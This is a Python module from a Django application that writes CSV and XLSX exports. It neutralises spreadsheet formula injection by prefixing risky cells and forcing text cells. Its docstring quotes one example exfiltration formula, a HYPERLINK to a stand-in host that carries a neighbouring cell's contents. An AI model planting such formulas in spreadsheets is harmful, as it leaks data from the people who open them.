"""The one writer of tables that leave the application: CSV downloads and
exports, the legal production's CSV files and its workbook.

A spreadsheet program reads a cell as a formula when its text starts with
=, +, -, @, a tab, a carriage return (OWASP's "CSV injection"), and in some
locales with the full-width ＝ ＋ － ＠. Such a formula can fetch or send
the neighbouring cells elsewhere (``=HYPERLINK("http://x/?"&B2)``), so no
cell this module writes can be one:

- In CSV, a text cell that a spreadsheet could take for a formula is
  written with one apostrophe in front (``MARKER``), and so is a text cell
  that already starts with an apostrophe. The rule is reversible: a cell
  that starts with an apostrophe had exactly one added, and ``restore``
  takes it off again; no other cell is changed. LibreOffice shows the
  apostrophe, Excel hides it; both read the cell as text.
- In XLSX, every cell is a text cell holding the exact text, formatted as
  text ("@"), so nothing is evaluated and nothing needs a marker.

Numbers passed as numbers (int, float, Decimal) stay numbers in report
downloads; the legal production passes only text.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

import xlsxwriter
from django.http import HttpResponse, StreamingHttpResponse

MARKER = "'"
# The first characters that start a formula in Excel, LibreOffice or Google
# Sheets (OWASP; ASVS 1.2.10 adds NUL), with their full-width forms, which
# Excel converts in East Asian locales.
FORMULA_STARTS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A workbook's own date, fixed so that the same rows give the same bytes
# (the date of the ZIP format's epoch, as the production's ZIP uses).
XLSX_CREATED = datetime.datetime(1980, 1, 1, tzinfo=datetime.UTC)
XLSX_CELL_MAX = 32_767
XLSX_SHEET_NAME = re.compile(r"[\[\]:*?/\\]")
_UNSAFE_FILENAME = re.compile(r"[^A-Za-z0-9._-]+")


def needs_marker(text: str) -> bool:
    """Whether a CSV text cell gets the apostrophe: it starts with a formula
    character or an apostrophe, or with white space before a formula
    character (an import that trims spaces would bring it to the front)."""
    if not text:
        return False
    if text[0] == MARKER or text[0] in FORMULA_STARTS:
        return True
    return text[0].isspace() and text.lstrip()[:1] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """The text as a CSV cell no spreadsheet evaluates; `restore` undoes it."""
    return MARKER + text if needs_marker(text) else text


def restore(cell: str) -> str:
    """The exact text of a CSV cell `neutralise` wrote: without the one
    apostrophe it added, if it starts with one."""
    return cell[1:] if cell.startswith(MARKER) else cell


def cell(value: Any) -> Any:
    """The value as a CSV cell a spreadsheet shows as written: numbers as
    numbers, dates in ISO 8601, yes/no, and text through `neutralise`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (datetime.date, datetime.datetime, datetime.time)):
        return value.isoformat()
    return neutralise(str(value))


def csv_lines(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The header, then each row, as CSV lines (RFC 4180: quoted where
    needed, CRLF), every cell through `cell`. One line at a time: a
    streamed export never holds the whole table."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")

    def line(row: Sequence[Any]) -> str:
        out.seek(0)
        out.truncate()
        writer.writerow([cell(value) for value in row])
        return out.getvalue()

    yield line(header)
    for row in rows:
        yield line(row)


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """The whole CSV as UTF-8 (no byte-order mark): the same rows give the
    same bytes."""
    return "".join(csv_lines(header, rows)).encode("utf-8")


def safe_filename(name: str, extension: str = ".csv") -> str:
    """A download name of letters, digits, dots, dashes and underscores."""
    cleaned = _UNSAFE_FILENAME.sub("-", name).strip("-.") or "report"
    return cleaned if cleaned.endswith(extension) else cleaned + extension


def content_type_of(name: str) -> str:
    """The media type of a file this module wrote, by its name; plain text
    (a cover letter) otherwise."""
    if name.endswith(".csv"):
        return CSV_CONTENT_TYPE
    if name.endswith(".xlsx"):
        return XLSX_CONTENT_TYPE
    return "text/plain; charset=utf-8"


def _attachment(response: HttpResponse | StreamingHttpResponse, filename: str) -> None:
    response["Content-Disposition"] = f'attachment; filename="{safe_filename(filename)}"'
    response["Cache-Control"] = "no-store"


def csv_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV attachment: the header row, then `rows`, every cell made safe.
    UTF-8 with a byte-order mark, which spreadsheet programs need to read
    non-ASCII text correctly."""
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    _attachment(response, filename)
    response.write("\ufeff")
    for line in csv_lines(header, rows):
        response.write(line)
    return response


def csv_stream_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]
) -> StreamingHttpResponse:
    """A CSV attachment sent a line at a time as `rows` yields them (no
    byte-order mark: the first byte goes out at once)."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type=CSV_CONTENT_TYPE)
    _attachment(response, filename)
    return response


def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[str], Sequence[Sequence[str]]]]) -> bytes:
    """A workbook of (name, header, rows) sheets in which every cell is text
    holding the exact string given: never a formula, a number or a date,
    so a barcode keeps its digits and ``=1+1`` stays those four characters.
    The same sheets give the same bytes (fixed dates inside). A text longer
    than a cell holds (32,767 characters) raises ValueError rather than be
    cut short."""
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(
        out,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )
    workbook.set_properties({"created": XLSX_CREATED})
    text = workbook.add_format({"num_format": "@"})
    header_format = workbook.add_format({"num_format": "@", "bold": True})
    for name, header, rows in sheets:
        sheet = workbook.add_worksheet(XLSX_SHEET_NAME.sub("-", name)[:31])
        for c, title in enumerate(header):
            sheet.write_string(0, c, str(title), header_format)
            # Whole columns formatted as text: what the reader types there
            # stays text as well.
            sheet.set_column(c, c, None, text)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row):
                value = str(value)
                if len(value) > XLSX_CELL_MAX:
                    raise ValueError(f"row {r}, column {c + 1}: longer than a cell holds")
                sheet.write_string(r, c, value, text)
        sheet.freeze_panes(1, 0)
    workbook.close()
    return out.getvalue()
